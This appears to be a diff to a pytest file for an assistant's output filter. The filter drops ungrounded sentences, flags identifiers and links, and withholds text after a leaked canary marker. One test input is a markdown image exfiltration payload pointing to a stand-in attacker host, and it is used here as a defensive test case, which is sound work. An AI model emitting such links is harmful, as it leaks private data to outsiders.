@@ -73,17 +73,24 @@ def test_brackets_that_belong_to_the_text_stay(detector: PiiDetector) -> None:
     [
         ("The chairman resigned on Tuesday in anger.", "unsupported"),
         ("Refunds are paid within nine working days.", "unsupported"),
-        ("Refunds are paid within five working days CANARY.", "prompt_leak"),
-        ("Refunds are paid within five working days ![x](https://evil.example/?q=secret).", "unsupported"),
-        ("Refunds are paid within five working days <b>.", "unsupported"),
-        ("Refunds paid within five working days, call +44 20 7946 0958.", "unsupported"),
-        ("Refunds are paid within five working days by ann@shop.example.", "unsupported"),
+        ("Refunds are paid within five working days ![x](https://evil.example/?q=secret).", "active_content"),
+        ("Refunds are paid within five working days <b>.", "active_content"),
+        ("Refunds paid within five working days, call +44 20 7946 0958.", "unsupported_identifier"),
+        ("Refunds are paid within five working days by ann@shop.example.", "unsupported_link"),
     ],
 )
 def test_what_no_passage_holds_is_dropped_and_the_rest_stays(sentence: str, flag: str, detector: PiiDetector) -> None:
     filtered, cited = released(f"{sentence}\nGift cards are never refunded.", detector)
     assert cited.text == "Gift cards are never refunded [1]."
     assert flag in {one.kind for one in filtered.flags}
+
+
+def test_what_follows_a_leaked_marker_is_not_released(detector: PiiDetector) -> None:
+    filtered, cited = released(
+        "Gift cards are never refunded. Note CANARY. Refunds are paid within five working days.", detector
+    )
+    assert cited.text == "Gift cards are never refunded [1]."
+    assert [(one.kind, one.action) for one in filtered.flags] == [("prompt_leak", "dropped")]
 
 
 def test_of_nothing_supported_nothing_is_released(detector: PiiDetector) -> None:
